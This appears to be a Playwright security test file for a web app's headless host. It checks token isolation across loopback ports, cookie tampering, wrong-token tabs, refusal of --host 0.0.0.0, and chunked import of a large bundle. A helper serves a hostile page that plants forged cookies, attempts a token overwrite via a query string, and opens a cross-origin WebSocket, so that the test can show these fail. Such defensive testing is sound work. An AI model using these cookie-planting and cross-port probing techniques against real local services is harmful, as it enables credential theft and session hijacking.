/**
 * The headless host's credential in a real browser: a page on another loopback port neither receives the token nor
 * can plant, overwrite or crash anything with cookies; `--host` binds one address and works by it; a bundle far over
 * one WebSocket frame is imported through the page (chunks).
 */
import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import WebSocket from 'ws';
import { wsTokenProtocol } from '../preload/wire';
import { makeBundle } from '../main/sharing/bundle';
import { expect, startServe, test, type ServeProcess } from '../test/support/app';
import { WorkspacesPage } from './pages/workspaces-page';

/** A server on another 127.0.0.1 port that records every byte of every request it gets. */
async function attackerServer(servePort: number): Promise<{ server: Server; origin: string; seen: string[] }> {
  const seen: string[] = [];
  const page = `<!doctype html><title>attacker</title><script>
    (async () => {
      const log = [];
      // Cookies are not port-scoped: plant a malformed one and a forged credential for every port of 127.0.0.1.
      document.cookie = 'clusterdesk_token=%E0%A4%A; path=/';
      document.cookie = 'clusterdesk_session=forged-by-attacker; path=/';
      // The old overwrite: load the host with a wrong ?token= (it used to answer Set-Cookie with it).
      try { await fetch('http://127.0.0.1:${servePort}/?token=attacker-chosen-token', { mode: 'no-cors', credentials: 'include' }); log.push('fetch sent'); } catch (e) { log.push('fetch failed'); }
      // A WebSocket from this origin, with the browser's cookies for 127.0.0.1.
      await new Promise((resolve) => {
        const ws = new WebSocket('ws://127.0.0.1:${servePort}/ws');
        ws.onopen = () => { log.push('ws OPEN'); ws.close(); resolve(); };
        ws.onerror = () => { log.push('ws refused'); resolve(); };
      });
      // Requests to this server carry whatever cookies the browser holds for 127.0.0.1.
      for (let i = 0; i < 4; i++) await fetch('/probe-' + i, { credentials: 'include' });
      document.title = 'done: ' + log.join(', ');
    })();
  </script>`;
  const server = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}\n${req.rawHeaders.join('\n')}`);
    req.on('data', (c: Buffer) => seen.push(c.toString()));
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(req.url === '/' ? page : 'ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

/** The host answers `GET /` and a WebSocket call (a non-browser client with the Bearer header). */
async function assertAlive(serve: ServeProcess): Promise<void> {
  expect((await fetch(`${serve.origin}/`)).status).toBe(200);
  const ws = new WebSocket(`${serve.origin.replace('http', 'ws')}/ws`, { headers: { authorization: `Bearer ${serve.token}` } });
  const result = await new Promise<unknown>((resolve, reject) => {
    ws.once('open', () => ws.send(JSON.stringify({ type: 'invoke', id: 1, channel: 'app:info', arg: {} })));
    ws.once('message', (d) => resolve((JSON.parse(d.toString()) as { result: unknown }).result));
    ws.once('unexpected-response', (_r, res) => reject(new Error(`HTTP ${res.statusCode}`)));
    ws.once('error', reject);
  });
  ws.close();
  expect(result).toMatchObject({ ok: true, value: { host: 'serve' } });
}

test.describe('serve security in Chromium', () => {
  // Nothing here is timed; a shared 2-core machine under load needs room for page loads and reloads.
  test.describe.configure({ timeout: 240_000 });
  test.beforeEach(({ app }) => {
    test.skip(app.host === 'electron', 'the Electron app has no HTTP endpoint or token');
  });

  test('a page on another loopback port gets no credential, and its cookies change nothing', async ({ app }) => {
    const serve = app.serve!;
    const servePort = Number(new URL(serve.origin).port);
    await expect(app.page.getByText('headless host')).toBeVisible();
    const attacker = await attackerServer(servePort);
    try {
      const evil = await app.page.context().newPage();
      await evil.goto(attacker.origin);
      await expect(evil).toHaveTitle(/^done: /, { timeout: 30_000 });
      const title = await evil.title();
      expect(title).toContain('ws refused');
      // The user's page still works after a reload: the planted cookies reach the host and are ignored.
      await app.page.reload();
      await expect(app.page.getByText('headless host')).toBeVisible();
      await expect(app.page.getByRole('status').filter({ hasText: 'Connected' })).toBeVisible();
      // And back on the attacker's port, nothing of the credential ever arrived, in any encoding.
      await evil.reload();
      await expect(evil).toHaveTitle(/^done: /, { timeout: 30_000 });
      const everything = attacker.seen.join('\n');
      expect(attacker.seen.length).toBeGreaterThanOrEqual(10);
      for (const form of [serve.token, encodeURIComponent(serve.token), wsTokenProtocol(serve.token)]) expect(everything).not.toContain(form);
      // The browser holds no cookie of the host's at all (only the attacker's own).
      const cookies = await app.page.context().cookies();
      expect(cookies.map((c) => c.value)).not.toContain(serve.token);
      await assertAlive(serve);
    } finally {
      await new Promise((resolve) => attacker.server.close(resolve));
    }
  });

  test('a wrong #token= in a second tab overwrites nothing in the first', async ({ app }) => {
    const serve = app.serve!;
    await expect(app.page.getByText('headless host')).toBeVisible();
    const other = await app.page.context().newPage();
    await other.goto(`${serve.origin}/#token=attacker-chosen-token-000`);
    // That tab has a wrong token and cannot connect, and says so …
    await expect(other.getByRole('status').filter({ hasText: 'Token rejected' })).toBeVisible();
    await expect(other.getByRole('alert', { name: 'Connection' })).toContainText('no longer accepts this page’s token');
    await other.close();
    // … and the user's tab, reloaded, still has its own.
    await app.page.reload();
    await expect(app.page.getByRole('status').filter({ hasText: 'Connected' })).toBeVisible();
    await assertAlive(serve);
  });

  test('--host binds one address and the page works by that address; 0.0.0.0 is refused, saying why', async ({ app }) => {
    const dataDir = await mkdtemp(join(tmpdir(), 'cd-e2e-host-'));
    try {
      await expect(startServe(dataDir, ['--host', '0.0.0.0'])).rejects.toThrow(
        /exited with 2[\s\S]*--host 0\.0\.0\.0 would listen on every interface[\s\S]*Pass the address to serve on/,
      );
      const other = await startServe(dataDir, ['--host', '127.0.0.2']);
      try {
        expect(other.url).toMatch(/^http:\/\/127\.0\.0\.2:\d+\/#token=/);
        const page = await app.page.context().newPage();
        await page.goto(other.url);
        await expect(page.getByText('headless host')).toBeVisible();
        await expect(page.getByRole('status').filter({ hasText: 'Connected' })).toBeVisible();
        await page.close();
        await assertAlive(other);
      } finally {
        expect(await other.stop()).toBe(0);
      }
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  test('a 40 MiB bundle is imported through the page, in chunks', async ({ app, workDir }) => {
    // Nothing here is timed; the limit only bounds a 40 MiB preview and import on a loaded shared machine.
    test.setTimeout(900_000);
    const serve = app.serve!;
    const mine = join(workDir, 'big-fed');
    await mkdir(mine, { recursive: true });
    await writeFile(join(mine, 'refedez.yaml'), 'refedez:\n  folder: .refedez\nmachines: {}\n');
    const count = 1920;
    const machines = Array.from({ length: count }, (_, i) => ({
      name: `site-${i}`,
      kind: 'remote' as const,
      host: '127.0.0.9',
      port: 22,
      user: 'fl',
      tmp_dir: `/tmp/clusterdesk-big-${i}`,
      started_at: '2025-10-21T09:00:00.000+00:00',
      notes: i % 50 === 0 ? 'quote " backslash \\ accent é emoji 😀; '.repeat(500) : 'x'.repeat(22_000),
    }));
    const lineage = randomUUID();
    const bundle = makeBundle({
      app_version: 'test',
      exported_at: new Date().toISOString(),
      workspace: { kind: 'federation', name: 'big' },
      lineage,
      serial: 1,
      redacted: { secrets: 0, home_paths: false },
      state: { type: 'running', data: { deployed_files_path: mine, machines }, serial: 1, lineage },
    });
    const text = `${JSON.stringify(bundle, null, 2)}\n`;
    expect(text.length).toBeGreaterThanOrEqual(40 * 1024 * 1024);

    const ws = new WorkspacesPage(app);
    await ws.add(mine);
    await ws.select('big-fed');
    await app.page.getByRole('tab', { name: 'State' }).click();
    await app.page.getByLabel('Import state file').setInputFiles({ name: 'big.cdstate', mimeType: 'application/json', buffer: Buffer.from(text) });
    const dialog = app.page.getByRole('dialog', { name: 'Import big.cdstate' });
    await expect(dialog).toContainText('Can be imported', { timeout: 600_000 });
    await dialog.getByRole('button', { name: 'Apply' }).click();
    await expect(ws.item('big-fed')).toContainText('running', { timeout: 600_000 });
    await assertAlive(serve);
  });
});
